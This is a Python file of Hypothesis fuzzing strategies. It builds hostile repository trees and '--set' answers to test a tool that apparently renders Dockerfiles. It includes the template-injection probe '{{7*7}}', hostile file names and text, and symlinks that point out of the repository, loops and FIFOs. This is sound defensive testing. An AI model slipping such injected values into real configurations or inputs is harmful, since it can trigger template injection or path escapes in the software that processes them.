    manifest = {"name": "app", "main": draw(st.sampled_from(["main.js", "server.js"])), "scripts": scripts}
    return {"package.json": _json_doc(manifest), "server.js": b"app.listen(process.env.PORT || 3000)\n"}


@st.composite
def node_workspace_trees(draw: st.DrawFn) -> Tree:
    """A monorepo whose root is no app: its one app (or several, or none) is built from the root."""
    root = {"private": True, "workspaces": ["apps/*", "packages/*"]}
    root |= draw(st.fixed_dictionaries({}, optional={"packageManager": package_managers}))
    tree: Tree = {"package.json": _json_doc(root)}
    tree.update(draw(lockfiles(NODE_LOCKFILES, raw=False)))
    tree.update(draw(workspace_members))
    tree.update(draw(_hostile_source_files(".js", server_js)))
    return tree


#: members of a uv workspace (matched by "apps/*" and "libs/*"): apps with entry scripts, libraries
uv_members = st.fixed_dictionaries(
    {},
    optional={
        "apps/a/pyproject.toml": pyproject.map(_toml_doc),
        "apps/a/main.py": st.just(b"print('a')\n"),
        "apps/b/pyproject.toml": pyproject.map(_toml_doc),
        "apps/b/app/main.py": st.just(b"from fastapi import FastAPI\n\napp = FastAPI()\n"),
        "libs/core/pyproject.toml": pyproject.map(_toml_doc),
    },
)


@st.composite
def python_workspace_trees(draw: st.DrawFn) -> Tree:
    """A uv workspace whose root is no app: its one member app (or several, or none) is built."""
    root: dict[str, Any] = {"project": {"name": "shop", "version": "0"}}
    root["tool"] = {"uv": {"workspace": {"members": draw(st.lists(st.sampled_from(["apps/*", "libs/*"])))}}}
    tree: Tree = {"pyproject.toml": _toml_doc(root)}
    tree.update(draw(st.fixed_dictionaries({}, optional={"uv.lock": st.just(b"version = 1\n")})))
    tree.update(draw(uv_members))
    tree.update(draw(_hostile_source_files(".py", main_py)))
    return tree


@st.composite
def python_trees(draw: st.DrawFn, *, raw: bool = True) -> Tree:
    """A Python repository: manifests, requirement files (with includes), lockfiles, sources."""
    requirements = (
        requirements_bytes
        if raw
        else st.builds(_requirements, st.lists(requirement_lines, max_size=8), st.booleans())
    )
    tree: Tree = draw(
        st.fixed_dictionaries(
            {},
            optional={
                "pyproject.toml": pyproject_bytes if raw else pyproject.map(_toml_doc),
                "requirements.txt": requirements,
                "Pipfile": st.one_of(
                    st.builds(
                        lambda pk: toml_dumps(
                            {"packages": pk, "requires": {"python_version": "3.12"}}
                        ).encode(),
                        st.dictionaries(st.sampled_from(PY_PACKAGES), st.just("*"), max_size=3),
                    ),
                    garbage if raw else st.nothing(),
                ),
                "setup.py": st.just(b"from setuptools import setup\nsetup()\n"),
            },
        )
    )
    includes = draw(
        st.lists(
            st.sampled_from([t for t in INCLUDE_TARGETS if not t.startswith(("/", ".."))]),
            max_size=4,
            unique=True,
        )
    )
    for name in includes:
        tree[name.replace("sub/../", "")] = draw(requirements)
    if not tree:
        tree["requirements.txt"] = draw(requirements)
    tree.update(draw(lockfiles(PY_LOCKFILES, raw=raw)))
    tree.update(draw(uv_members))
    tree.update(
        draw(
            st.fixed_dictionaries(
                {},
                optional={
                    "main.py": main_py,
                    "app.py": main_py,
                    "app/main.py": main_py,
                    "src/pkg/main.py": main_py,
                    "src/main.py": main_py,
                    "api/__init__.py": main_py,
                    "manage.py": manage_py,
                    "mysite/settings.py": django_settings,
                    "mysite/urls.py": urls_py,
                    "mysite/wsgi.py": st.just(b"application = None\n"),
                    "mysite/asgi.py": st.just(b"application = None\n"),
                    ".python-version": version_file,
                    "runtime.txt": version_file,
                    "README.md": st.just(b"# app\n"),
                },
            )
        )
    )
    tree.update(draw(_hostile_source_files(".py", main_py)))
    if draw(st.booleans()):  # a hostile package folder for Django's settings module
        name = draw(hostile_name)
        tree[f"{name}/wsgi.py"] = b"application = None\n"
        tree[f"{name}/settings.py"] = draw(django_settings)
    return tree


# ---- Go -----------------------------------------------------------------------------------------
GO_MODULES = ["github.com/gin-gonic/gin", "github.com/labstack/echo/v4", "github.com/mattn/go-sqlite3",
              "github.com/h2non/bimg", "modernc.org/sqlite", "example.com/lib"]  # fmt: skip
_go_version = st.one_of(
    st.sampled_from(["1.21", "1.24", "1.24.0", "1.26.1", "1.27rc1", "2.0", "1", "default"]),
    single_line_hostile_text(4),
)


def _go_mod(module: str, go: str, toolchain: str | None, requires: list[str], replace: str | None) -> bytes:
    lines = [f"module {module}", "", f"go {go}"]
    if toolchain is not None:
        lines.append(f"toolchain go{toolchain}")
    if requires:
        lines += ["", "require ("] + [f"\t{r} v1.0.0 // indirect" for r in requires] + [")"]
    if replace is not None:
        lines.append(f"replace example.com/lib => {replace}")
    return ("\n".join(lines) + "\n").encode()


go_mod = st.builds(
    _go_mod,
    st.one_of(
        st.sampled_from(["example.com/app", "github.com/acme/shop/v2", "app"]), single_line_hostile_text(4)
    ),
    _go_version,
    st.none() | _go_version,
    st.lists(st.sampled_from(GO_MODULES), max_size=3, unique=True),
    st.none() | st.sampled_from(["./lib", "../lib", "/abs/lib"]) | single_line_hostile_text(3),
)
go_mod_bytes = st.one_of(go_mod, mutated_bytes(go_mod), garbage)


def _go_main(port: str, route: str, cgo: bool, ignored: bool) -> bytes:
    head = "//go:build ignore\n\n" if ignored else ""
    preamble = '// int one() { return 1; }\nimport "C"\n\n' if cgo else ""
    return (
        f'{head}package main\n\n{preamble}import "net/http"\n\nfunc main() {{\n'
        f"\thttp.HandleFunc({json.dumps(route)}, nil)\n\thttp.ListenAndServe({json.dumps(port)}, nil)\n}}\n"
    ).encode()


go_main_source = st.builds(
    _go_main,
    st.one_of(
        st.sampled_from([":8080", "127.0.0.1:9000", ":0", ":99999", "localhost:3000"]), hostile_text(4)
    ),
    st.one_of(st.sampled_from(["/healthz", "GET /health", "/api/v1/ping", "/"]), hostile_text(4)),
    st.booleans(),
    st.booleans(),
)


@st.composite
def go_trees(draw: st.DrawFn, *, raw: bool = True) -> Tree:
    """A Go module: go.mod (maybe go.sum, vendor/), main packages at the root or under cmd/<name>."""
    tree: Tree = {"go.mod": draw(go_mod_bytes if raw else go_mod)}
    if draw(st.booleans()):
        tree["go.sum"] = b""
    if draw(st.integers(0, 4)) == 0:
        tree["vendor/modules.txt"] = b"# example.com/lib v1.0.0\n"
    folders = draw(
        st.lists(
            st.one_of(
                st.sampled_from(["", "cmd/api/", "cmd/worker/", "tools/gen/"]),
                hostile_name.map(lambda n: f"cmd/{n}/"),
            ),
            min_size=0 if raw else 1,
            max_size=3,
            unique=True,
        )
    )
    for folder in folders:
        tree[f"{folder}main.go"] = draw(go_main_source)
    if draw(st.booleans()):
        tree["lib/go.mod"] = b"module example.com/lib\n"
    return tree


# ---- Rust and Java --------------------------------------------------------------------------------
_crate_name = st.one_of(st.sampled_from(["api", "shop-server", "x_1"]), single_line_hostile_text(3))


def _cargo_toml(name: str, bins: list[str], members: list[str] | None) -> bytes:
    lines = ["[package]", f"name = {json.dumps(name)}", 'version = "0.1.0"', 'edition = "2021"']
    for b in bins:
        lines += ["", "[[bin]]", f"name = {json.dumps(b)}", 'path = "src/main.rs"']
    if members is not None:
        lines += ["", "[workspace]", f"members = {json.dumps(members)}"]
    return ("\n".join(lines) + "\n").encode()


@st.composite
def rust_trees(draw: st.DrawFn, *, raw: bool = True) -> Tree:
    """A Cargo package (maybe a workspace root) with binaries under hostile names."""
    cargo = st.builds(
        _cargo_toml,
        _crate_name,
        st.lists(_crate_name, max_size=2),
        st.none() | st.lists(st.sampled_from(["crates/*", "api", "../x", "/abs", "**"]), max_size=2),
    )
    tree: Tree = {"Cargo.toml": draw(st.one_of(cargo, mutated_bytes(cargo), garbage) if raw else cargo)}
    tree["src/main.rs"] = draw(
        st.builds(
            lambda port, route: (
                f"fn main() {{\n    let _ = TcpListener::bind({json.dumps(port)});\n"
                f"    let _ = {json.dumps(route)};\n}}\n"
            ).encode(),
            st.one_of(st.sampled_from(["0.0.0.0:8080", "127.0.0.1:3000"]), hostile_text(3)),
            st.one_of(st.sampled_from(["/health", "/healthz"]), hostile_text(3)),
        )
    )
    if draw(st.booleans()):
        tree["Cargo.lock"] = draw(
            st.sampled_from([b"version = 4\n", b'version = 4\n[[package]]\nname = "openssl-sys"\n'])
            | (garbage if raw else st.nothing())
        )
    if draw(st.booleans()):
        tree["rust-toolchain.toml"] = draw(
            st.builds(lambda c: f"[toolchain]\nchannel = {json.dumps(c)}\n".encode(), _go_version)
        )
    return tree


def _pom(java: str, boot: str | None, port: str) -> bytes:
    parent = (
        f"<parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent"
        f"</artifactId><version>{boot}</version></parent>"
        if boot is not None
        else ""
    )
    return f"<project>{parent}<properties><java.version>{java}</java.version></properties></project>".encode()


@st.composite
def java_trees(draw: st.DrawFn, *, raw: bool = True) -> Tree:
    """A Maven or Gradle app with hostile versions and configuration."""
    text = single_line_hostile_text(3)
    pom = st.builds(
        _pom,
        st.one_of(st.sampled_from(["17", "21", "23", "8", "1.8"]), text),
        st.none() | st.one_of(st.sampled_from(["3.5.7", "3.1.0", "2.7.18"]), text),
        st.just(""),
    )
    tree: Tree = {}
    if draw(st.booleans()):
        tree["pom.xml"] = draw(st.one_of(pom, mutated_bytes(pom), garbage) if raw else pom)
    else:
        tree["build.gradle.kts"] = draw(
            st.builds(
                lambda v, boot: (
                    f'plugins {{ id("org.springframework.boot") version {json.dumps(boot)} }}\n'
                    f"java {{ toolchain {{ languageVersion = JavaLanguageVersion.of({v}) }} }}\n"
                ).encode(),
                st.one_of(st.sampled_from(["17", "21", "25"]), text),
                st.one_of(st.sampled_from(["3.4.1", "3.2.0"]), text),
            )
        )
    if draw(st.booleans()):
        tree["src/main/resources/application.properties"] = draw(
            st.builds(
                lambda v: f"server.port={v}\n".encode(), st.one_of(st.integers(-5, 70000).map(str), text)
            )
        )
    return tree


#: Names where a symlink out, a folder symlink out, a loop or a FIFO hurts most (issue 18).
_FS_NAMES = [
    "package.json", "package-lock.json", "pnpm-lock.yaml", "tsconfig.json", "server.js", "src", "lib",
    "requirements.txt", "pyproject.toml", "app.py", "main.py", "conf", "go.mod", "main.go", "cmd",
    "Cargo.toml", "pom.xml", "src/main/resources", "src/main/resources/application.yml", ".nvmrc",
]  # fmt: skip


@st.composite
def hostile_fs(draw: st.DrawFn, tree: Tree) -> Tree:
    """Up to three of the tree's paths or of `_FS_NAMES` as symlinks out, loops or FIFOs."""
    from .support import FS_ENTRIES

    names = st.sampled_from(sorted(set(_FS_NAMES) | set(tree)))
    return draw(st.dictionaries(names, st.sampled_from(FS_ENTRIES), max_size=3))


@st.composite
def any_trees(draw: st.DrawFn) -> Tree:
    """Node, Python, Go, Rust, Java, a workspace, two of them (ambiguous), or none; sometimes with
    symlinks out of the repository, symlink loops and FIFOs in it."""
    choice = draw(
        st.sampled_from(
            [
                *("node", "python", "go", "rust", "java", "both", "node+go", "none"),
                *("start-script", "node-workspace", "python-workspace"),
            ]
        )
    )
    tree: Tree = {}
    if choice == "start-script":
        tree.update(draw(start_script_trees()))
    if choice == "node-workspace":
        tree.update(draw(node_workspace_trees()))
    if choice == "python-workspace":
        tree.update(draw(python_workspace_trees()))
    if choice in ("node", "both", "node+go"):
        tree.update(draw(node_trees()))
    if choice in ("python", "both"):
        tree.update(draw(python_trees()))
    if choice in ("go", "node+go"):
        tree.update(draw(go_trees()))
    if choice == "rust":
        tree.update(draw(rust_trees()))
    if choice == "java":
        tree.update(draw(java_trees()))
    if choice == "none":
        tree.update(draw(st.dictionaries(hostile_name, garbage, max_size=3)))
    if draw(st.booleans()):
        tree.update(draw(hostile_fs(tree)))
    return tree


# ---- answers through --set -----------------------------------------------------------------------
FREE_TEXT_KEYS = ["start_command", "build_command", "dependency_files", "build_output", "health_path"]
LIST_KEYS = [
    "start_command",
    "build_command",
    "dependency_files",
    "build_output",
    "native_deps",
    "check_ignore",
]
TEXT_KEYS = [
    "health_path",
    "framework",
    "runtime_version",
    "package_manager_version",
    "base",
    "kind",
    "package_manager",
    "port",
    "next_standalone",
]
_PREFIX = {
    "start_command": ["node", "server.js"],
    "build_command": ["npm", "run", "build"],
    "dependency_files": ["package.json"],
    "build_output": ["dist"],
    "native_deps": ["bcrypt"],
    "check_ignore": ["Dockerfile"],
    "health_path": "/health",
    "framework": "express",
    "runtime_version": "22",
    "package_manager_version": "9.15.0",
    "base": "slim",
    "kind": "node",
    "package_manager": "npm",
    "port": "3000",
    "next_standalone": "true",
}


@st.composite
def set_items(draw: st.DrawFn) -> tuple[str, str]:
    """(key, raw value) for `--set key=value`, the value hostile in some way."""
    # the free-text answers (rendered into the Dockerfile) twice as often as the others
    key = draw(st.sampled_from(FREE_TEXT_KEYS + FREE_TEXT_KEYS + LIST_KEYS + TEXT_KEYS))
    if key in LIST_KEYS:
        items = draw(
            st.lists(
                st.one_of(
                    st.sampled_from(_PREFIX[key]),
                    hostile_text(),
                    single_line_hostile_text(),
                    st.just("{{7*7}}"),
                ),
                min_size=0,
                max_size=4,
            )
        )
        value = draw(
            st.one_of(
                st.just(json.dumps(items)),  # JSON (a YAML flow sequence), \u escapes
                st.just(json.dumps(items, ensure_ascii=False)),
                st.just("[" + ", ".join(items) + "]"),  # a plain YAML flow sequence
                hostile_text(),  # any YAML at all
            )
        )
    else:
        value = draw(
            st.one_of(
                st.tuples(st.just(_PREFIX[key]), hostile_text()).map("".join),
                st.tuples(st.just(_PREFIX[key]), single_line_hostile_text()).map("".join),
                hostile_text(),
                st.just(_PREFIX[key] + "{{7*7}}"),
            )
        )
    return key, value
